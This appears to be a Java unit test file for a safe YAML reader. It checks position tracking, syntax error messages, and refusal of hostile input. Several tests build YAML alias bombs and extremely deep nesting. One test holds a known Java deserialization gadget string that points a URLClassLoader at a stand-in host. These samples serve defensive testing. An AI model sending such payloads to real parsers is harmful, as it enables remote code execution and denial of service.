package dev.vigil.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.catalog.YamlValue.Mapping;
import dev.vigil.catalog.YamlValue.Mark;
import dev.vigil.catalog.YamlValue.Scalar;
import dev.vigil.catalog.YamlValue.Sequence;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Reading YAML safely: positions, syntax errors, and refusing bombs, deep nesting and custom tags. */
class YamlReaderTest {

  private final Problems problems = new Problems("v.yaml");

  private YamlValue read(String yaml) {
    return YamlReader.read(yaml, problems);
  }

  private List<String> messages() {
    return problems.sorted().stream().map(Problem::format).toList();
  }

  /** Reads and returns how long it took, so refusals can be shown to be fast. */
  private Duration timedRead(String yaml) {
    long start = System.nanoTime();
    assertThat(read(yaml)).isNull();
    return Duration.ofNanos(System.nanoTime() - start);
  }

  @Test
  void keepsTheLineAndColumnOfEveryNode() {
    Mapping root = (Mapping) read("""
        version: 1
        teams:
          - name: ops
            members: [ana, "bob"]
        """);

    assertThat(root.mark()).isEqualTo(new Mark(1, 1));
    assertThat(root.entries().get(1).key().mark()).isEqualTo(new Mark(2, 1));
    Mapping team = (Mapping) ((Sequence) root.get("teams")).items().getFirst();
    assertThat(team.mark()).isEqualTo(new Mark(3, 5));
    assertThat(team.get("name").mark()).isEqualTo(new Mark(3, 11));
    Sequence members = (Sequence) team.get("members");
    assertThat(members.mark()).isEqualTo(new Mark(4, 14));
    assertThat(members.items()).extracting(YamlValue::mark).containsExactly(new Mark(4, 15), new Mark(4, 20));
    assertThat(members.items()).extracting(YamlValue::text).containsExactly("ana", "bob");
    assertThat(problems.hasErrors()).isFalse();
  }

  @Test
  void tellsNullsFromText() {
    Mapping root = (Mapping) read("a:\nb: ~\nc: null\nd: \"null\"\ne: ''\n");

    assertThat(root.entries()).extracting(e -> ((Scalar) e.value()).isNull())
        .containsExactly(true, true, true, false, false);
  }

  @Test
  void aSyntaxErrorIsOneProblemAtItsPosition() {
    assertThat(read("version: 1\nteams:\n  - name: a\n    members: x: y\n")).isNull();

    assertThat(messages()).containsExactly("v.yaml:4:15: invalid YAML: mapping values are not allowed here");
  }

  @Test
  void aBadIndentIsOneProblemWhereTheLineGoesWrong() {
    read("version: 1\nteams:\n  - name: a\n   members: [x]\n");

    assertThat(messages()).hasSize(1);
    assertThat(messages().getFirst()).startsWith("v.yaml:4:4: invalid YAML: ");
  }

  @Test
  void anUnclosedFlowListNamesWhereItStarted() {
    read("version: 1\nteams: [a, b\nusers: []\n");

    assertThat(messages()).containsExactly(
        "v.yaml:3:6: invalid YAML: expected ',' or ']', but got : (while parsing a flow sequence at line 2)");
  }

  @Test
  void tabsForIndentationAreASyntaxError() {
    read("version: 1\nteams:\n\t- name: a\n");

    assertThat(messages()).hasSize(1);
    assertThat(messages().getFirst()).startsWith("v.yaml:3:1: invalid YAML: found character '\\t(TAB)'");
  }

  @Test
  void onlyOneDocumentIsAllowed() {
    read("version: 1\n---\nversion: 1\n");

    assertThat(messages()).containsExactly(
        "v.yaml:2:1: invalid YAML: but found another document (expected a single document in the stream at line 1)");
  }

  @Test
  void anEmptyFileSaysWhatIsExpected() {
    read("# nothing yet\n");

    assertThat(messages()).containsExactly("v.yaml:1:1: the file is empty; a catalog starts with 'version: 1'");
  }

  @Test
  void aBillionLaughsBombIsRefusedFast() {
    StringBuilder yaml = new StringBuilder("version: 1\nlol0: &lol0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int i = 1; i <= 9; i++) {
      yaml.append("lol").append(i).append(": &lol").append(i).append(" [");
      for (int j = 0; j < 9; j++) {
        yaml.append(j > 0 ? ", " : "").append("*lol").append(i - 1);
      }
      yaml.append("]\n");
    }

    Duration took = timedRead(yaml.toString());

    // Lines 3 to 7 hold 45 aliases; the 51st is the sixth on line 8, "lol6: &lol6 [*lol5, ...".
    assertThat(messages()).containsExactly(
        "v.yaml:8:49: more than 50 aliases to lists or mappings (a YAML alias bomb?); refusing the file");
    assertThat(took).isLessThan(Duration.ofSeconds(1));
  }

  @Test
  void fewAliasesThatDoubleAListManyTimesAreRefusedToo() {
    StringBuilder yaml = new StringBuilder("version: 1\nd0: &d0 [x, x]\n");
    for (int i = 1; i <= 24; i++) {
      yaml.append("d").append(i).append(": &d").append(i).append(" [*d").append(i - 1).append(", *d").append(i - 1)
          .append("]\n");
    }

    Duration took = timedRead(yaml.toString());

    assertThat(messages()).hasSize(1);
    assertThat(messages().getFirst())
        .endsWith(": aliases expand the file to more than 100000 extra nodes (a YAML alias bomb?); refusing the file");
    assertThat(took).isLessThan(Duration.ofSeconds(1));
  }

  @Test
  void tenThousandNestedListsAreRefusedFast() {
    Duration took = timedRead("version: 1\nteams: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n");

    // The top-level mapping is level 1 and "teams: [" level 2, so level 51 opens at column 8 + 49.
    assertThat(messages()).containsExactly(
        "v.yaml:2:57: lists and mappings are nested more than 50 levels deep; refusing the file");
    assertThat(took).isLessThan(Duration.ofSeconds(1));
  }

  @Test
  void deepBlockMappingsAreRefusedToo() {
    StringBuilder yaml = new StringBuilder();
    for (int i = 0; i < 60; i++) {
      yaml.append(" ".repeat(i)).append("k:\n");
    }

    Duration took = timedRead(yaml.toString());

    assertThat(messages()).containsExactly(
        "v.yaml:51:51: lists and mappings are nested more than 50 levels deep; refusing the file");
    assertThat(took).isLessThan(Duration.ofSeconds(1));
  }

  @Test
  void aDocumentOverTheSizeLimitIsRefusedWithoutParsing() {
    String yaml = "version: 1\nx: " + "a".repeat(YamlReader.MAX_CODE_POINTS);

    Duration took = timedRead(yaml);

    assertThat(messages()).containsExactly(
        "v.yaml:1:1: the file has more than 10485760 characters; refusing to read it");
    assertThat(took).isLessThan(Duration.ofSeconds(1));
  }

  @Test
  void aListThatContainsItselfIsRefused() {
    read("version: 1\nteams: &t\n  - *t\n");

    assertThat(messages()).containsExactly(
        "v.yaml:2:8: the anchor '&t' contains an alias to itself; refusing a recursive structure");
  }

  @Test
  void customTagsAreRefused() {
    read("version: 1\nteams: !team {name: ops}\n");

    assertThat(messages()).containsExactly(
        "v.yaml:2:8: the tag '!team' is not allowed; a catalog uses plain YAML values");
  }

  @Test
  void tagsThatNameJavaClassesAreRefused() {
    read("version: 1\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");

    assertThat(messages()).hasSize(1);
    assertThat(messages().getFirst()).startsWith("v.yaml:2:4: invalid YAML: Global tag is not allowed");
  }

  @Test
  void standardTagsAreAllowed() {
    Mapping root = (Mapping) read("a: !!str 1\nb: !!int 2\n");

    assertThat(problems.hasErrors()).isFalse();
    assertThat(root.text("a")).isEqualTo("1");
  }

  @Test
  void mergeKeysCopyEntriesThatAreNotWrittenOut() {
    Mapping root = (Mapping) read("""
        base: &base {a: 1, b: 2}
        more: &more {c: 3}
        x:
          <<: [*base, *more]
          b: 20
        """);

    Mapping x = (Mapping) root.get("x");
    assertThat(x.entries()).extracting(e -> e.key().text() + "=" + YamlValue.text(e.value()))
        .containsExactly("b=20", "a=1", "c=3");
    // Copied entries point at where they were written.
    assertThat(x.get("a").mark()).isEqualTo(new Mark(1, 17));
  }

  @Test
  void mergingSomethingElseThanAMappingIsAnError() {
    read("x:\n  <<: 5\n  a: 1\n");

    assertThat(messages()).containsExactly("v.yaml:2:7: '<<' merges a mapping or a list of mappings, not '5'");
  }

  @Test
  void keysMustBeScalars() {
    Mapping root = (Mapping) read("? [a, b]\n: 1\nc: 2\n");

    assertThat(messages()).containsExactly("v.yaml:1:3: a key must be a plain name, not a list");
    assertThat(root.entries()).hasSize(1);
  }

  @Test
  void duplicateKeysAreKeptForTheChecksToReport() {
    Mapping root = (Mapping) read("a: 1\na: 2\n");

    assertThat(root.entries()).hasSize(2);
    assertThat(problems.hasErrors()).isFalse();
  }

  @Test
  void aliasesToScalarsAreNotCountedAsCollectionAliases() {
    List<String> lines = new ArrayList<>(List.of("name: &n x"));
    for (int i = 0; i < 200; i++) {
      lines.add("k" + i + ": *n");
    }

    Mapping root = (Mapping) read(String.join("\n", lines));

    assertThat(problems.hasErrors()).isFalse();
    assertThat(root.entries()).hasSize(201);
  }
}
